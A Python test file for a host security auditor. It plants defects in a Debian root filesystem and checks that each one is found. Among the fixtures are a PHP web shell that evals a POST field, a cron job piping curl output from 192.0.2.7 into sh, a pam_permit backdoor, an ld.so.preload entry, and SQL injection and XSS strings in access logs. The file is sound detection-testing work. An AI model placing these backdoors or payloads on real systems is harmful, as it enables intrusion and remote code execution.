"""Real roots: a Debian made by debootstrap, clean and with planted defects, and the recorded Alpine systems."""

from __future__ import annotations

import datetime
import gzip
import os
import struct
from collections.abc import Callable
from pathlib import Path

import pytest

from inspector.audit import audit_host
from inspector.model import Finding, Host, Severity, Status
from inspector.passwords.cache import Cache
from inspector.passwords.examination import Examiner
from inspector.passwords.wordlists import load_lists
from inspector.plugins import bundled
from inspector.rules import load_rules
from inspector.targets.host import rootfs

RIGHT_ON_A_CLEAN_ROOT = {"os-patch.pending-security-updates"}
"""High findings that are true of a fresh root: its mirror offers updates that debootstrap does not install."""
TRUE_OF_THE_CLEAN_ROOT = {"antivirus.not-installed"}
"""Expected below, and so before anything is planted."""
HASH = "$6$abcdefgh$" + "A" * 86
"""Of a password that nobody has."""
KNOWN = "$1$saltsalt$T5MN6iR8aoAeg.OHdYqBf0"
"""Of 123456."""
EXPECTED = {
    ("weak-password.empty-password", "guest"): "/etc/shadow:",
    ("weak-password.obsolete-hash", "legacy"): "/etc/shadow:",
    ("weak-password.hash-in-passwd", "intern"): "/etc/passwd:",
    ("admin-privilege.second-uid-0", "toor"): "/etc/passwd:",
    ("admin-privilege.ssh-root-login", "root"): "/etc/ssh/sshd_config.d/10-first.conf:1",
    ("admin-privilege.ssh-empty-passwords", ""): "/etc/ssh/sshd_config.d/10-first.conf:2",
    ("admin-privilege.sudo-nopasswd", ""): "/etc/sudoers.d/ops:2",
    ("access-permission.suid-not-packaged", "/usr/local/bin/helper"): "/usr/local/bin/helper",
    ("access-permission.suid-shell-escape", "/usr/bin/find"): "/usr/bin/find",
    ("access-permission.cron-file-writable", "/usr/local/sbin/nightly"): "/etc/cron.d/nightly",
    ("access-permission.shadow-copy-readable", "/var/backups/shadow.old"): "/var/backups/shadow.old",
    ("access-permission.shadow-readable", "/etc/shadow"): "/etc/shadow",
    ("access-permission.system-file-writable", "/etc/profile"): "/etc/profile",
    ("os-patch.end-of-life-distribution", ""): "/etc/os-release",
    ("malware.ld-so-preload", "/usr/lib/libevil.so"): "/etc/ld.so.preload:1",
    ("malware.executable-in-temporary-folder", ""): "/tmp/",
    ("web-tampering.web-root-writable", "/var/www/html"): "",
    ("app-patch.vulnerable-java-library", ""): "/opt/his/lib/log4j-core-2.14.1.jar",
    ("security-log.logging-off", ""): "",
    ("open-port.redis-without-password", ""): "/etc/redis/redis.conf",
    ("antivirus.not-installed", ""): "",
    ("weak-password.guessable-password", "legacy"): "/etc/shadow:",
    ("weak-password.shared-password", "intern"): "/etc/passwd:",
    ("admin-privilege.pam-lets-anybody-in", ""): "/etc/pam.d/sshd",
    ("admin-privilege.path-folder-writable", "/usr/local/sbin"): "/usr/local/sbin",
    ("access-permission.capability-not-packaged", "/usr/bin/perl"): "/usr/bin/perl",
    ("access-permission.private-key-readable", "/etc/nginx/ssl/site.key"): "/etc/nginx/ssl/site.key",
    ("malware.packaged-file-altered", "/bin/ls"): "/bin/ls",
    ("malware.download-piped-into-shell", ""): "/etc/cron.d/update:1",
    ("web-tampering.web-shell", "/var/www/html/uploads/a.php"): "/var/www/html/uploads/a.php",
    ("web-tampering.script-in-upload-folder", "/var/www/html/uploads"): "/var/www/html/uploads/a.php",
    ("sql-injection.attempts-in-access-log", ""): "",
    ("xss.attempts-in-access-log", ""): "",
    ("security-log.brute-force-series", ""): "",
}


def findings(host: Host) -> dict[str, tuple[Finding, ...]]:
    return {result.check: result.findings for result in host.results if result.status is Status.FAIL}


def audited(root: Path) -> Host:
    lists = load_lists(bundled("profiles") / "knowledge/common-passwords.txt")
    examiner = Examiner(lists, 20.0, Cache.in_memory())
    host = audit_host(rootfs(str(root)), load_rules("self-check", []), examiner.examine).host
    assert not [(r.check, r.reason) for r in host.results if r.status is Status.ERROR]
    return host


def test_a_clean_debian_gives_no_wrong_finding_of_weight(debian_root: Path) -> None:
    host = audited(debian_root)
    heavy = {
        result.check: [finding.message.en for finding in result.findings]
        for result in host.results
        for finding in result.findings
        if finding.severity in (Severity.HIGH, Severity.CRITICAL)
    }
    assert heavy.keys() <= RIGHT_ON_A_CLEAN_ROOT, heavy
    unknown = {result.check for result in host.results if result.status is Status.UNKNOWN}
    assert unknown <= RIGHT_ON_A_CLEAN_ROOT  # the package lists of a root that was built weeks ago prove nothing
    assert host.system.id == "debian"


def test_every_planted_defect_is_found_with_subject_and_place(debian_copy: Path) -> None:
    clean = findings(audited(debian_copy))
    plant(debian_copy)
    plant_quietly(debian_copy)
    found = findings(audited(debian_copy))
    for (check, subject), place in EXPECTED.items():
        assert check in found, check
        hits = [f for f in found[check] if subject in ("", f.subject) and f.location.startswith(place)]
        assert hits, (check, [(f.subject, f.location) for f in found[check]])
        assert (check in clean) is (check in TRUE_OF_THE_CLEAN_ROOT), f"{check}: the planted defect makes it fail"


def plant(root: Path) -> None:
    """One defect for each expected finding, as people and intruders leave them."""
    etc = root / "etc"
    _append(etc / "passwd", "toor:x:0:0::/root:/bin/bash\nguest:x:1001:1001::/home/guest:/bin/bash\n")
    _append(etc / "passwd", f"legacy:x:1002:1002::/:/bin/bash\nintern:{HASH}:1003:1003::/:/bin/bash\n")
    _append(
        etc / "shadow",
        f"toor:{HASH}:20000::::::\nguest::20000::::::\nlegacy:{KNOWN}:20000::::::\n",
    )
    (root / "var/backups/shadow.old").write_text(f"root:{HASH}:20000::::::\n")
    (root / "var/backups/shadow.old").chmod(0o644)
    (etc / "shadow").chmod(0o644)
    (etc / "profile").chmod(0o666)
    _write(etc / "ssh/sshd_config.d/10-first.conf", "PermitRootLogin yes\nPermitEmptyPasswords yes\n")
    _write(etc / "ssh/sshd_config.d/20-second.conf", "PermitRootLogin no\n")  # too late: the first value wins
    _write(etc / "sudoers.d/ops", "# operators\nops ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    _write(root / "usr/local/bin/helper", "\x7fELF", 0o4755)
    (root / "usr/bin/find").chmod(0o4755)
    _write(root / "usr/local/sbin/nightly", "#!/bin/sh\n", 0o777)
    _write(etc / "cron.d/nightly", "0 3 * * * root /usr/local/sbin/nightly\n")
    _write(etc / "ld.so.preload", "/usr/lib/libevil.so\n")
    _write(root / "usr/lib/libevil.so", "\x7fELF")
    _write(root / "tmp/.cache/kworker", "\x7fELF", 0o755)
    _write(root / "opt/his/lib/log4j-core-2.14.1.jar", "PK")
    _write(root / "var/www/html/index.html", "<p>")
    for path in (root / "var/www/html", root / "var/www/html/index.html"):
        os.chown(path, 33, 33)
    _write(etc / "redis/redis.conf", "bind 0.0.0.0\nprotected-mode no\n")
    _write(root / "usr/bin/redis-server", "\x7fELF", 0o755)
    (etc / "systemd/system/rsyslog.service").symlink_to("/dev/null")
    _write(etc / "systemd/journald.conf", "[Journal]\nStorage=none\n")
    (etc / "os-release").unlink()
    _write(etc / "os-release", 'ID=debian\nVERSION_ID="9"\nVERSION_CODENAME=stretch\nPRETTY_NAME="Debian 9"\n')


def plant_quietly(root: Path) -> None:
    """What an intruder leaves, and the traces of the way in."""
    os.setxattr(root / "usr/bin/perl", "security.capability", struct.pack("<5I", 2 << 24 | 1, 1 << 7, 0, 0, 0))
    with (root / "usr/bin/ls").open("ab") as file:
        file.write(b"x")
    (root / "usr/local/sbin").chmod(0o777)
    _write(root / "etc/nginx/ssl/site.key", "-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----\n")
    _write(root / "etc/cron.d/update", "*/5 * * * * root curl -fsSL http://192.0.2.7/x | sh\n")
    _write(root / "etc/pam.d/sshd", "auth sufficient pam_permit.so\n" + (root / "etc/pam.d/sshd").read_text())
    _write(root / "var/www/html/uploads/a.php", "<?php @eval($_POST['c']); ?>\n")
    now = datetime.datetime.now(datetime.UTC)
    request = f'192.0.2.7 - - [{now:%d/%b/%Y:%H:%M:%S} +0000] "GET {{}} HTTP/1.1" 200 512 "-" "-"\n'
    attempts = (
        "/a?id=1%20union%20select%20user,password%20from%20mysql.user--",
        "/a?q=%3Cscript%3Ealert(1)%3C/script%3E",
    )
    lines = "".join(request.format(path) for path in attempts)
    log = root / "var/log/nginx/access.log.2.gz"
    log.parent.mkdir(parents=True, exist_ok=True)
    log.write_bytes(gzip.compress(lines.encode()))
    failed = "{:%b %d %H}:10:{:02} web sshd[7]: Failed password for root from 192.0.2.9 port 5{:03} ssh2\n"
    _write(
        root / "var/log/auth.log", "".join(failed.format(now - datetime.timedelta(hours=3), n, n) for n in range(60))
    )


def _append(path: Path, text: str) -> None:
    path.write_text(path.read_text() + text)


def _write(path: Path, text: str, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


@pytest.mark.parametrize("version", ["3.9.6", "3.20.3"])
def test_a_recorded_alpine_gives_no_wrong_finding_of_weight(alpine_root: Callable[[str], Path], version: str) -> None:
    host = audited(alpine_root(version))
    heavy = {c for c, found in findings(host).items() if any(f.severity.rank >= Severity.HIGH.rank for f in found)}
    ended = {"3.9.6": datetime.date(2020, 11, 1), "3.20.3": datetime.date(2026, 4, 1)}[version]
    assert datetime.date.today() > ended  # noqa: DTZ011 - a date far gone
    assert heavy == {"os-patch.end-of-life-distribution"}
    assert host.system.version == version
